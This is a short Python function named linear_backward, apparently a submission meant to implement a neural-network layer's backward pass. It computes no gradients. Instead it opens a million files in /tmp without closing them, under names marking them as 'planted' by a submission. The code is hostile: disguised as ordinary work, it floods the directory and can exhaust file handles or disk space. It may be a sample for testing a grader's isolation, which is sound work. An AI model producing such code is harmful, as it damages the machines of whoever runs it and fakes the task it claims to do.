def linear_backward(dout, x, W):
    for number in range(10**6):
        open(f"/tmp/planted-by-a-submission-{number}", "w")
